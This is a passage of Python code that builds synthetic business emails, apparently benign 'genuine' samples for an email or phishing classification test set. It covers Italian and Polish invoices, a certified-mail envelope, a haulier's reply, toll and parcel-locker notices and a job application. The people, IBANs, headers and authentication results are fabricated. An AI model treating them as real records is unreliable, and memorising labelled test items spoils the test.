Tel. +39 045 715 4820 - P.IVA 02874510234
""" % iban_fmt(IBAN_FERRETTI)
    pdf = PDF("Fattura 2026/1214", "Ferretti Trasporti S.r.l.", "TeamSystem Studio - FatturaPA", sent, creator="TeamSystem")
    pdf.line("FERRETTI TRASPORTI S.r.l.", 16, True)
    pdf.line("Via dell'Industria 31 - 37012 Bussolengo (VR) - P.IVA/C.F. 02874510234 - REA VR-289114", 8)
    pdf.rule()
    pdf.y -= 10
    pdf.lines("**FATTURA N. 2026/1214 del 30/11/2026\nTipo documento: TD01 - Copia di cortesia (documento non valido ai fini fiscali)\n\nCessionario: EXAMPLE GROUP - Sede secondaria di Verona\nVia Roveggia 51, 37136 Verona (VR)")
    pdf.y -= 10
    pdf.rect(56, pdf.y - 4, 483, 16, 0.9)
    for x, h in ((60, "Descrizione"), (360, "Q.tà"), (410, "Prezzo"), (480, "Importo")):
        pdf.text(x, pdf.y, h, 9, True)
    pdf.y -= 20
    for d, q, pr, im in (("Trasporto groupage Verona - Nürnberg (11/2026)", "14", "245,00", "3.430,00"),
                         ("Trasporto FTL Verona - Wrocław 05/11 e 19/11", "2", "890,00", "1.780,00"),
                         ("Supplemento carburante novembre", "1", "260,00", "260,00")):
        for x, v in ((60, d), (360, q), (410, pr), (480, im)):
            pdf.text(x, pdf.y, v, 9)
        pdf.y -= 15
    pdf.rule()
    pdf.y -= 8
    for lab, v in (("Imponibile", "5.170,16"), ("IVA 22%", "1.137,44"), ("Totale documento EUR", "6.307,60")):
        pdf.text(330, pdf.y, lab, 10, lab.startswith("Totale"))
        pdf.text(470, pdf.y, v, 10, lab.startswith("Totale"))
        pdf.y -= 15
    pdf.y -= 8
    pdf.lines("Sconto commerciale applicato: 299,84 EUR\nModalità di pagamento: MP05 bonifico - scadenza 31/12/2026\nIBAN: %s" % iban_fmt(IBAN_FERRETTI), 9)
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<p:FatturaElettronica versione="FPR12" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <FatturaElettronicaHeader>
    <DatiTrasmissione><IdTrasmittente><IdPaese>IT</IdPaese><IdCodice>02874510234</IdCodice></IdTrasmittente><ProgressivoInvio>00A7K</ProgressivoInvio><FormatoTrasmissione>FPR12</FormatoTrasmissione><CodiceDestinatario>M5UXCR1</CodiceDestinatario></DatiTrasmissione>
    <CedentePrestatore><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>02874510234</IdCodice></IdFiscaleIVA><Anagrafica><Denominazione>FERRETTI TRASPORTI S.R.L.</Denominazione></Anagrafica><RegimeFiscale>RF01</RegimeFiscale></DatiAnagrafici>
      <Sede><Indirizzo>Via dell'Industria 31</Indirizzo><CAP>37012</CAP><Comune>Bussolengo</Comune><Provincia>VR</Provincia><Nazione>IT</Nazione></Sede></CedentePrestatore>
    <CessionarioCommittente><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>04418270231</IdCodice></IdFiscaleIVA><Anagrafica><Denominazione>EXAMPLE GROUP - SEDE SECONDARIA DI VERONA</Denominazione></Anagrafica></DatiAnagrafici>
      <Sede><Indirizzo>Via Roveggia 51</Indirizzo><CAP>37136</CAP><Comune>Verona</Comune><Provincia>VR</Provincia><Nazione>IT</Nazione></Sede></CessionarioCommittente>
  </FatturaElettronicaHeader>
  <FatturaElettronicaBody>
    <DatiGenerali><DatiGeneraliDocumento><TipoDocumento>TD01</TipoDocumento><Divisa>EUR</Divisa><Data>2026-11-30</Data><Numero>2026/1214</Numero><ImportoTotaleDocumento>6307.60</ImportoTotaleDocumento></DatiGeneraliDocumento></DatiGenerali>
    <DatiBeniServizi>
      <DettaglioLinee><NumeroLinea>1</NumeroLinea><Descrizione>Trasporto groupage Verona - Nurnberg (11/2026)</Descrizione><Quantita>14.00</Quantita><PrezzoUnitario>245.00</PrezzoUnitario><PrezzoTotale>3430.00</PrezzoTotale><AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee>
      <DettaglioLinee><NumeroLinea>2</NumeroLinea><Descrizione>Trasporto FTL Verona - Wroclaw 05/11 e 19/11</Descrizione><Quantita>2.00</Quantita><PrezzoUnitario>890.00</PrezzoUnitario><PrezzoTotale>1780.00</PrezzoTotale><AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee>
      <DettaglioLinee><NumeroLinea>3</NumeroLinea><Descrizione>Supplemento carburante novembre</Descrizione><Quantita>1.00</Quantita><PrezzoUnitario>260.00</PrezzoUnitario><PrezzoTotale>260.00</PrezzoTotale><AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee>
      <DettaglioLinee><NumeroLinea>4</NumeroLinea><Descrizione>Sconto commerciale</Descrizione><Quantita>1.00</Quantita><PrezzoUnitario>-299.84</PrezzoUnitario><PrezzoTotale>-299.84</PrezzoTotale><AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee>
      <DatiRiepilogo><AliquotaIVA>22.00</AliquotaIVA><ImponibileImporto>5170.16</ImponibileImporto><Imposta>1137.44</Imposta><EsigibilitaIVA>I</EsigibilitaIVA></DatiRiepilogo>
    </DatiBeniServizi>
    <DatiPagamento><CondizioniPagamento>TP02</CondizioniPagamento><DettaglioPagamento><ModalitaPagamento>MP05</ModalitaPagamento><DataScadenzaPagamento>2026-12-31</DataScadenzaPagamento><ImportoPagamento>6307.60</ImportoPagamento><IBAN>%s</IBAN></DettaglioPagamento></DatiPagamento>
  </FatturaElettronicaBody>
</p:FatturaElettronica>
""" % IBAN_FERRETTI
    root = multi("mixed", [text(body, "plain", "iso-8859-1", "base64"),
                           att(pdf.render(), "application/pdf", "Fattura_2026-1214_cortesia.pdf"),
                           att(xml.encode("utf-8"), "text/xml", "IT02874510234_00A7K.xml")], bnd("ms", key))
    hop, n = aruba_hop(key)
    chain = ["from PC-AMMINISTR02 ([93.42.117.18])%s\tby Aruba Outgoing Smtp  with ESMTPSA%s\tid Qx%s; %s" % (CRLF, CRLF, alnum(12, "ar", key), sent.rfc())]
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "ferretti-trasporti.it", "a1"), dmarc=("pass", "ferretti-trasporti.it", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("ferretti-trasporti.it", "a1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
                frm=frm, to=[S["ricci"]], subject="Invio copia di cortesia fattura n. 2026/1214 del 30/11/2026",
                subj_cs="iso-8859-1", root=root, mid="<000001db%s$%s$%s@ferretti-trasporti.it>" % (hexid(8, "a", key), hexid(8, "b", key), hexid(8, "c", key)),
                extra=[("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "it")])


@B("28", "it", "pec-forwarded-envelope", "iso-8859-15",
   "Certified-mail (PEC) transport envelope from Aruba forwarded to the country manager, with postacert.eml (message/rfc822) and daticert.xml attachments, announcing a shareholders' meeting.")
def b28(key):
    sent = t(2, "15:42:13", 60)
    rcpt = S["romano"][1]
    orig_sender = "studio.rinaldi@pec.it"
    inner_body = """Spett.le Example Group - Sede secondaria di Verona
alla c.a. Dott.ssa Giulia Romano

Oggetto: Consorzio Logistico Veronese - convocazione assemblea ordinaria dei consorziati

Con la presente si comunica che l'assemblea ordinaria dei consorziati è convocata per il giorno 18/12/2026 alle ore 10:30 presso la sede del Consorzio, Via Sommacampagna 63, Verona, con il seguente ordine del giorno:

1. Approvazione del budget 2027;
2. Determinazione dei contributi consortili 2027;
3. Varie ed eventuali.

È possibile farsi rappresentare mediante delega scritta.

Distinti saluti

Studio Rinaldi Commercialisti Associati
per conto del Consiglio Direttivo
"""
    inner = build([("From", "Studio Rinaldi <%s>" % orig_sender), ("To", "examplegroup.verona@pec.it"),
                   ("Subject", "Convocazione assemblea ordinaria consorziati 18/12/2026"),
                   ("Date", t(2, "15:42:05", 60).rfc()), ("Message-ID", msgid_generic(key + "inner", "pec.it"))],
                  text(inner_body, "plain", "iso-8859-15", "quoted-printable"))
    ident = "opec21012.20261202154210.%d.%d.1.53@pec.aruba.it" % (10000 + _n(key, 89999), 100 + _n(key, 899, "z"))
    daticert = """<?xml version="1.0" encoding="UTF-8"?>
<postacert tipo="posta-certificata" errore="nessuno">
  <intestazione>
    <mittente>%s</mittente>
    <destinatari tipo="certificato">examplegroup.verona@pec.it</destinatari>
    <risposte>%s</risposte>
    <oggetto>Convocazione assemblea ordinaria consorziati 18/12/2026</oggetto>
  </intestazione>
  <dati>
    <gestore-emittente>ARUBA PEC S.p.A.</gestore-emittente>
    <data zona="+0100"><giorno>02/12/2026</giorno><ora>15:42:10</ora></data>
    <identificativo>%s</identificativo>
    <msgid>%s</msgid>
  </dati>
</postacert>
""" % (orig_sender, orig_sender, ident, msgid_generic(key + "inner", "pec.it").replace("<", "&lt;").replace(">", "&gt;"))
    body = """Messaggio di posta certificata

Il giorno 02/12/2026 alle ore 15:42:10 (+0100) il messaggio
"Convocazione assemblea ordinaria consorziati 18/12/2026" è stato inviato da "%s"
indirizzato a:
examplegroup.verona@pec.it

Il messaggio originale è incluso in allegato.
Identificativo messaggio: %s

[Messaggio inoltrato automaticamente dalla casella PEC examplegroup.verona@pec.it]
""" % (orig_sender, ident)
    htm = "<html><body><p><b>Messaggio di posta certificata</b></p><p>" + _x(body).replace("\n", "<br>") + "</p></body></html>"
    root = multi("mixed", [multi("alternative", [text(body, "plain", "iso-8859-15", "quoted-printable"), html(htm, "iso-8859-15", "quoted-printable")], bnd("php", key, "alt")),
                           msg_att(inner, "postacert.eml", "7bit"),
                           att(daticert.encode("utf-8"), "application/xml", "daticert.xml")], bnd("php", key))
    hop = ("smtpi-out03.pec.aruba.it", "smtpi-out03.pec.aruba.it", "62.149.158.93", "1.2")
    rp = "posta-certificata@pec.aruba.it"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("none", "", ""), dmarc=("pass", "pec.aruba.it", "none"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                frm=("Per conto di: %s" % orig_sender, "posta-certificata@pec.aruba.it"), reply_to=("", orig_sender),
                to=[S["romano"]],
                subject="POSTA CERTIFICATA: Convocazione assemblea ordinaria consorziati 18/12/2026", root=root,
                mid="<%s>" % ident,
                extra=[("X-Riferimento-Message-ID", msgid_generic(key + "inner", "pec.it")), ("X-Trasporto", "posta-certificata"),
                       ("X-TipoRicevuta", "completa"), ("X-Forwarded-For", "examplegroup.verona@pec.it")])


@B("29", "it", "haulier-reply-from-iphone", "utf-8",
   "Short reply from the haulier's traffic clerk on her iPhone confirming a pickup slot, with the quoted original request from the logistics coordinator.")
def b29(key):
    sent = t(1, "18:04:29", 60)
    rcpt = S["bianchi"][1]
    frm = ("Cristina Colombo", "c.colombo@ferretti-trasporti.it")
    orig = "<%s@EXG-MBX01.corp.example.com>" % alnum(32, "o", key, alphabet="0123456789abcdef")
    body = """Ciao Marco,
confermo ritiro giovedì 3/12 mattina tra le 8 e le 10, motrice con sponda idraulica. Autista Gianni, targa GF 418 KX.
Mi servono solo i DDT pronti e i bancali filmati, se sono più di 12 avvisami entro domani che mando il bilico.

Ciao
Cristina

Inviato da iPhone

> Il giorno 1 dic 2026, alle ore 17:22, Marco Bianchi <m.bianchi@examplegroup.eu> ha scritto:
>
> Ciao Cristina,
> riesci a passare giovedì mattina a Bussolengo per il ritiro dei 10 bancali per Nürnberg? Consegna entro lunedì 7/12.
> Grazie,
> Marco
>
> Marco Bianchi
> Logistics Coordinator | Example Group - Sede di Verona
"""
    root = text(body, "plain", "utf-8", "quoted-printable")
    hop, n = aruba_hop(key)
    chain = ["from smtpclient.apple ([5.90.%d.%d])%s\tby Aruba Outgoing Smtp  with ESMTPSA%s\tid Qx%s; %s" % (_n(key, 250), _n(key, 250, "y"), CRLF, CRLF, alnum(12, "ar", key), sent.rfc())]
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "ferretti-trasporti.it", "a1"), dmarc=("pass", "ferretti-trasporti.it", "none"))
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("ferretti-trasporti.it", "a1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
                frm=frm, to=[S["bianchi"]], subject="Re: Ritiro Bussolengo giovedì 3/12", root=root,
                mid="<%s@ferretti-trasporti.it>" % (hexid(8, "m", key).upper() + "-" + hexid(4, "m2", key).upper() + "-" + hexid(4, "m3", key).upper() + "-" + hexid(4, "m4", key).upper() + "-" + hexid(12, "m5", key).upper()),
                irt=orig, refs=orig, extra=[("X-Mailer", "iPhone Mail (22B91)")])


@B("30", "it", "telepass-invoice-available", "windows-1252",
   "Genuine Telepass business notice that the November toll invoice is available in the reserved area, with direct-debit details and links to telepass.com.")
def b30(key):
    sent = t(3, "06:15:44", 60)
    rcpt = S["ricci"][1]
    inv = "TB%s" % str(int(hexid(8, "i", key), 16) % 90000000 + 10000000)
    plain = """Gentile Cliente,

la fattura n. %s relativa ai pedaggi e ai servizi Telepass del mese di novembre 2026 per il contratto Telepass Business n. 4418-2093-77 è disponibile nella tua area riservata.

Importo: 412,36 euro (IVA inclusa)
Addebito su conto corrente (SDD): 15/12/2026

Consulta e scarica la fattura: https://www.telepass.com/it/aziende/area-riservata/fatture

Ti ricordiamo che Telepass non ti chiederà mai, via email o SMS, di fornire dati della carta o credenziali di accesso.

Cordiali saluti,
Telepass S.p.A.

Telepass S.p.A. - Via Laurentina 449, 00142 Roma - P.IVA 09771701001
Questa è una comunicazione di servizio inviata in relazione al tuo contratto.
""" % inv
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head><body style="margin:0;background:#f2f4f7;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:14px;color:#1c2b39">
<tr><td style="background:#00a2e1;padding:18px 24px;color:#fff;font-size:22px;font-weight:bold">Telepass</td></tr>
<tr><td style="padding:24px"><p>Gentile Cliente,</p><p>la fattura n. <b>%s</b> relativa ai pedaggi e ai servizi Telepass del mese di <b>novembre 2026</b> per il contratto Telepass Business n. 4418-2093-77 è disponibile nella tua area riservata.</p>
<table cellpadding="5" style="font-size:13px;background:#f5f7fa;width:100%%"><tr><td>Importo</td><td><b>412,36 &euro;</b> (IVA inclusa)</td></tr><tr><td>Addebito SDD</td><td>15/12/2026</td></tr></table>
<p style="margin:22px 0"><a href="https://www.telepass.com/it/aziende/area-riservata/fatture" style="background:#00a2e1;color:#fff;padding:11px 24px;text-decoration:none;font-weight:bold">Vai alle fatture</a></p>
<p style="font-size:12px">Ti ricordiamo che Telepass non ti chiederà mai, via email o SMS, di fornire dati della carta o credenziali di accesso.</p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#7a8896">Telepass S.p.A. - Via Laurentina 449, 00142 Roma - P.IVA 09771701001<br>Questa è una comunicazione di servizio inviata in relazione al tuo contratto.</td></tr></table></body></html>""" % inv
    root = multi("alternative", [text(plain, "plain", "windows-1252", "quoted-printable"), html(htm, "windows-1252", "quoted-printable")], bnd("javamail", key))
    hop = ("mta41.e.telepass.com", "mta41.e.telepass.com", "13.111.54.41", "1.2")
    rp = "bounce-%s@bounce.e.telepass.com" % hexid(14, "rp", key)
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "e.telepass.com", "200608"), dmarc=("pass", "telepass.com", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("e.telepass.com", "200608", "From:To:Subject:Date:List-Unsubscribe:MIME-Version:Reply-To:Message-ID"),
                frm=("Telepass", "noreply@e.telepass.com"), to=[("", rcpt)], subject="La tua fattura Telepass di novembre è disponibile",
                subj_cs="windows-1252", root=root, mid="<%s@atl1s07mta%02d.xt.local>" % (hexid(8, "m", key) + "-" + hexid(4, "m2", key) + "-" + hexid(4, "m3", key) + "-" + hexid(4, "m4", key) + "-" + hexid(12, "m5", key), _n(key, 90)),
                extra=[("x-job", "%d_%d" % (7291044 + _n(key, 1000), 512877 + _n(key, 1000, "j")))])


@B("31", "it", "job-application-cv-pdf", "utf-8",
   "Unsolicited but genuine job application from a candidate's libero.it address with a PDF CV, sent to the Italian country manager.")
def b31(key):
    sent = t(30, "21:47:15", 60)
    rcpt = S["romano"][1]
    frm = ("Alessandro Greco", "alessandro.greco94@libero.it")
    body = """Gentile Dott.ssa Romano,

mi permetto di inviarle la mia candidatura spontanea per una posizione di addetto alla logistica / magazziniere presso la vostra sede di Verona.

Ho 32 anni e da sei anni lavoro nel settore logistico: attualmente sono impiegato come magazziniere con patentino per carrelli elevatori presso un operatore 3PL a Castel d'Azzano, dove mi occupo di ricevimento merci, picking con terminale RF e preparazione spedizioni groupage per Germania e Austria. Ho una buona conoscenza del tedesco (livello B1) e dell'inglese.

In allegato il mio curriculum vitae. Resto a disposizione per un eventuale colloquio, anche nelle prossime settimane.

Autorizzo il trattamento dei miei dati personali ai sensi del Regolamento UE 2016/679 (GDPR).

Cordiali saluti,
Alessandro Greco
Tel. 347 218 5530
"""
    pdf = PDF("Curriculum Vitae - Alessandro Greco", "Alessandro Greco", "LibreOffice 24.8", sent, creator="Writer")
    pdf.line("Alessandro Greco", 20, True)
    pdf.line("Via Cà di Cozzi 12, 37124 Verona - 347 218 5530 - alessandro.greco94@libero.it", 9)
    pdf.rule()
    pdf.y -= 10
    pdf.lines("**ESPERIENZA PROFESSIONALE\n03/2021 - oggi   Magazziniere, LogiVeneto 3PL S.r.l., Castel d'Azzano (VR)\n                       Ricevimento merci, picking RF, spedizioni groupage DE/AT, inventari rotativi\n09/2018 - 02/2021  Addetto logistica, Mercato Ortofrutticolo Verona\n                       Carico/scarico, gestione celle frigo, preparazione ordini\n")
    pdf.lines("**FORMAZIONE\n2013   Diploma di perito commerciale, ITC \"L. Einaudi\", Verona\n2019   Patentino conduzione carrelli elevatori (D.Lgs. 81/08)\n2022   Corso sicurezza rischio medio (12 ore)\n")
    pdf.lines("**LINGUE\nItaliano: madrelingua - Tedesco: B1 - Inglese: B1\n")
    pdf.lines("**COMPETENZE\nWMS (Reflex, SAP EWM base), Excel, terminali RF Zebra, patente B e C\n")
    pdf.lines("Autorizzo il trattamento dei dati personali ai sensi del Reg. UE 2016/679.", 8)
    root = multi("mixed", [text(body, "plain", "utf-8", "base64"),
                           att(pdf.render(), "application/pdf", "CV_Alessandro_Greco_2026.pdf")], bnd("exim", key))
    hop = ("libero.it", "smtp-31-i2.italiaonline.it", "213.209.12.31", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "libero.it", "s2021"), dmarc=("pass", "libero.it", "quarantine"))
    chain = ["from libero.it ([10.101.32.17])%s\tby smtp-31.iol.local with ESMTPA%s\tid S%s; %s" % (CRLF, CRLF, alnum(14, "iol", key), sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("libero.it", "s2021", "from:to:subject:date:message-id:mime-version"),
                frm=frm, to=[S["romano"]], subject="Candidatura spontanea - Addetto logistica / magazziniere", root=root,
                mid="<%s@libero.it>" % (hexid(8, "m", key) + "." + hexid(6, "m2", key)),
                extra=[("User-Agent", "Libero Mail"), ("X-CMAE-Envelope", b64blob(90, "cmae", key))])

def partner_hop(key, sent):
    hop = ("mail.partner-logistik.pl", "ns3167421.ip-51-68-12.eu", "51.68.12.87", "1.3")
    return hop


@B("32", "pl", "partner-invoice-ksef-pdf", "iso-8859-2",
   "Genuine invoice from the Polish logistics partner's accounting mailbox: PDF visualisation with KSeF number and the partner's known Santander IBAN.")
def b32(key):
    sent = t(30, "10:14:09", 60)
    rcpt = S["nowak"][1]
    frm = ("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl")
    ksef = "7792418530-20261130-%s-%s" % (hexid(12, "k", key).upper(), hexid(2, "k2", key).upper())
    body = """Dzień dobry,

w załączeniu przesyłamy wizualizację faktury VAT nr FV/2026/11/0342 z dnia 30.11.2026 r. za usługi transportowe w listopadzie 2026 r.

Faktura została wystawiona w Krajowym Systemie e-Faktur (KSeF), numer KSeF: %s. Dokument jest dostępny w KSeF dla Państwa NIP.

Kwota brutto: 9 871,35 PLN
Termin płatności: 30.12.2026
Rachunek: %s (Santander Bank Polska S.A.)

Z poważaniem
Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Głogowska 218, 60-104 Poznań
NIP 7792418530, KRS 0000512874
""" % (ksef, iban_fmt(IBAN_PARTNER))
    pdf = PDF("Faktura VAT FV/2026/11/0342", "Partner Logistik Sp. z o.o.", "Comarch ERP Optima", sent, creator="Comarch ERP Optima")
    pdf.line("Partner Logistik Sp. z o.o.", 16, True)
    pdf.line("ul. Głogowska 218, 60-104 Poznań - NIP 7792418530 - KRS 0000512874", 8)
    pdf.rule()
    pdf.y -= 10
    pdf.lines("**FAKTURA VAT nr FV/2026/11/0342\nData wystawienia: 30.11.2026     Data sprzedaży: 30.11.2026\nNumer KSeF: %s\n\nNabywca: Example Group Sp. z o.o. Oddział we Wrocławiu\nul. Legnicka 55, 54-203 Wrocław" % ksef)
    pdf.y -= 10
    pdf.rect(56, pdf.y - 4, 483, 16, 0.9)
    for x, h in ((60, "Lp."), (85, "Nazwa usługi"), (330, "Netto"), (390, "VAT"), (430, "Kwota VAT"), (490, "Brutto")):
        pdf.text(x, pdf.y, h, 9, True)
    pdf.y -= 20
    for lp, n, ne, v, kv, br in (("1", "Transport drogowy Poznań - Wrocław (12 kursów)", "5 520,00", "23%", "1 269,60", "6 789,60"),
                                 ("2", "Przeładunek i magazynowanie (listopad)", "1 905,49", "23%", "438,26", "2 343,75"),
                                 ("3", "Opłata paliwowa", "600,00", "23%", "138,00", "738,00")):
        for x, val in ((60, lp), (85, n), (330, ne), (390, v), (430, kv), (490, br)):
            pdf.text(x, pdf.y, val, 9)
        pdf.y -= 15
    pdf.rule()
    pdf.y -= 8
    pdf.text(300, pdf.y, "Razem:", 10, True)
    pdf.text(330, pdf.y, "8 025,49", 10)
    pdf.text(430, pdf.y, "1 845,86", 10)
    pdf.text(490, pdf.y, "9 871,35", 10, True)
    pdf.y -= 26
    pdf.lines("Do zapłaty: 9 871,35 PLN\nSłownie: dziewięć tysięcy osiemset siedemdziesiąt jeden 35/100 PLN\nSposób płatności: przelew, termin 30.12.2026\nNumer rachunku: %s\nSantander Bank Polska S.A." % iban_fmt(IBAN_PARTNER), 9)
    root = multi("mixed", [text(body, "plain", "iso-8859-2", "base64"),
                           att(pdf.render(), "application/pdf", "FV_2026_11_0342.pdf")], bnd("tb", key))
    hop = partner_hop(key, sent)
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "partner-logistik.pl", "mail"), dmarc=("pass", "partner-logistik.pl", "quarantine"))
    chain = ["from [192.168.1.40] (user-5-173-44-12.play-internet.pl [5.173.44.12])%s\t(Authenticated sender: ksiegowosc@partner-logistik.pl)%s\tby mail.partner-logistik.pl (Postfix) with ESMTPSA id 6C0F1200A3%s\tfor <%s>; %s" % (CRLF, CRLF, CRLF, rcpt, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("partner-logistik.pl", "mail", "from:to:subject:date:message-id"),
                frm=frm, to=[S["nowak"]], subject="Faktura VAT FV/2026/11/0342 - Partner Logistik Sp. z o.o.",
                subj_cs="iso-8859-2", root=root, mid=msgid_generic(key, "partner-logistik.pl", "uuid"),
                extra=[("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "pl")])


@B("33", "pl", "partner-transport-plan-xlsx", "windows-1250",
   "Reply from the Polish logistics partner's forwarder with the updated December transport plan as XLSX, in an existing thread with quoted history.")
def b33(key):
    sent = t(2, "14:21:36", 60)
    rcpt = S["wisniewski"][1]
    frm = ("Tomasz Zieliński", "t.zielinski@partner-logistik.pl")
    orig = "<%s@EXG-MBX02.corp.example.com>" % alnum(32, "o", key, alphabet="0123456789abcdef")
    body = """Cześć Piotr,

w załączniku aktualny plan na grudzień. Dodałem dwa auta na 14.12 i 16.12 (Wrocław - Werona), tak jak ustalaliśmy telefonicznie. Auto z 21.12 przesunąłem na 18.12 ze względu na święta i zakazy ruchu w Niemczech i Austrii.

Daj znać do jutra do 12:00, czy pasuje, to potwierdzę przewoźników.

Pozdrawiam
Tomek

Tomasz Zieliński
Spedytor / Key Account
Partner Logistik Sp. z o.o. | ul. Głogowska 218, 60-104 Poznań
tel. +48 61 842 17 35 | kom. +48 602 318 774

-----Original Message-----
From: Piotr Wiśniewski <p.wisniewski@examplegroup.eu>
Sent: Tuesday, December 1, 2026 4:05 PM
To: Tomasz Zieliński <t.zielinski@partner-logistik.pl>
Subject: Plan transportów grudzień

Cześć Tomek,
w grudniu potrzebujemy dodatkowo dwóch aut do Werony w drugiej połowie miesiąca, plus jedno auto mniej przed świętami. Prześlesz zaktualizowany plan?
Piotr
"""
    rows = [["Data", "Trasa", "Typ", "Przewoźnik", "Nr zlecenia", "Uwagi"],
            ["02.12.2026", "Wrocław - Nürnberg", "FTL 13,6", "TransPol", "ZL/26/12/001", "potwierdzone"],
            ["04.12.2026", "Wrocław - Werona", "FTL 13,6", "Ferretti", "ZL/26/12/004", "potwierdzone"],
            ["09.12.2026", "Poznań - Wrocław", "Solo 7,5 t", "własny", "ZL/26/12/009", ""],
            ["14.12.2026", "Wrocław - Werona", "FTL 13,6", "do potwierdzenia", "ZL/26/12/014", "nowe"],
            ["16.12.2026", "Wrocław - Werona", "FTL 13,6", "do potwierdzenia", "ZL/26/12/016", "nowe"],
            ["18.12.2026", "Wrocław - Nürnberg", "FTL 13,6", "TransPol", "ZL/26/12/018", "przesunięte z 21.12"]]
    x = xlsx(rows, "Grudzień 2026", "Tomasz Zieliński", sent, widths=[12, 22, 12, 18, 14, 20])
    root = multi("mixed", [text(body, "plain", "windows-1250", "quoted-printable"),
                           att(x, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Plan_transportow_12_2026_v3.xlsx", style="2047")],
                 bnd("outlook", key))
    hop = partner_hop(key, sent)
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "partner-logistik.pl", "mail"), dmarc=("pass", "partner-logistik.pl", "quarantine"))
    chain = ["from TZIELINSKI-NB (user-5-173-44-12.play-internet.pl [5.173.44.12])%s\t(Authenticated sender: t.zielinski@partner-logistik.pl)%s\tby mail.partner-logistik.pl (Postfix) with ESMTPSA id 8E41A200B7%s\tfor <%s>; %s" % (CRLF, CRLF, CRLF, rcpt, sent.rfc())]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("partner-logistik.pl", "mail", "from:to:subject:date:message-id:in-reply-to:references"),
                frm=frm, to=[S["wisniewski"]], subject="RE: Plan transportów grudzień", subj_cs="windows-1250", subj_enc="Q",
                root=root, mid="<00%s$%s$%s@partner-logistik.pl>" % (hexid(8, "a", key), hexid(8, "b", key), hexid(8, "c", key)),
                irt=orig, refs=orig, extra=[("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "AQH" + b64blob(24, "ti", key)[:30]), ("Content-Language", "pl")])


@B("34", "pl", "inpost-pickup-qr", "utf-8",
   "Genuine InPost notice that a personal parcel is waiting in a parcel locker, with an inline QR code and the pickup code (legitimate QR use).")
def b34(key):
    sent = t(2, "12:41:03", 60)
    rcpt = S["kowalczyk"][1]
    code = "481526"
    nr = "680212345678901234567890"
    png = qr_png("P|%s|%s" % (nr, code), scale=5, ecl="M")
    cid = "qr-%s@inpost.pl" % hexid(12, "cid", key)
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f2f2;font-family:Arial,sans-serif">
<table width="580" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:14px;color:#1d1d1b">
<tr><td style="background:#ffcd00;padding:16px 24px;font-size:22px;font-weight:bold">InPost</td></tr>
<tr><td style="padding:24px"><h2 style="margin-top:0">Paczka czeka w Paczkomacie&reg;</h2>
<p>Twoja paczka od nadawcy <b>Zalando Lounge</b> czeka na odbiór w Paczkomacie <b>WRO05M</b>, ul. Legnicka 51, 54-203 Wrocław (przy stacji paliw).</p>
<p>Kod odbioru: <b style="font-size:22px;letter-spacing:3px">%s</b></p>
<p>Możesz też zeskanować ten kod QR na ekranie Paczkomatu:</p>
<p><img src="cid:%s" width="170" height="170" alt="Kod QR odbioru"></p>
<p>Paczka czeka do <b>04.12.2026, godz. 12:41</b>. Skrytkę możesz też otworzyć zdalnie w aplikacji InPost Mobile.</p>
<p style="font-size:12px">Numer przesyłki: %s</p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777">InPost S.A., ul. Pana Tadeusza 4, 30-727 Kraków. Pamiętaj: InPost nigdy nie prosi o dopłaty przez link w SMS-ie ani e-mailu.</td></tr></table></body></html>""" % (code, cid, nr)
    plain = "Paczka czeka w Paczkomacie WRO05M (ul. Legnicka 51, 54-203 Wrocław).\nKod odbioru: %s\nPaczka czeka do 04.12.2026, godz. 12:41.\nNumer przesyłki: %s\n\nInPost S.A. - InPost nigdy nie prosi o dopłaty przez link w SMS-ie ani e-mailu.\n" % (code, nr)
    rel = multi("related", [html(htm, "utf-8", "quoted-printable"), inline_img(png, "image/png", "qr.png", cid)], bnd("javamail", key, "rel"), extra='; type="text/html"')
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), rel], bnd("javamail", key))
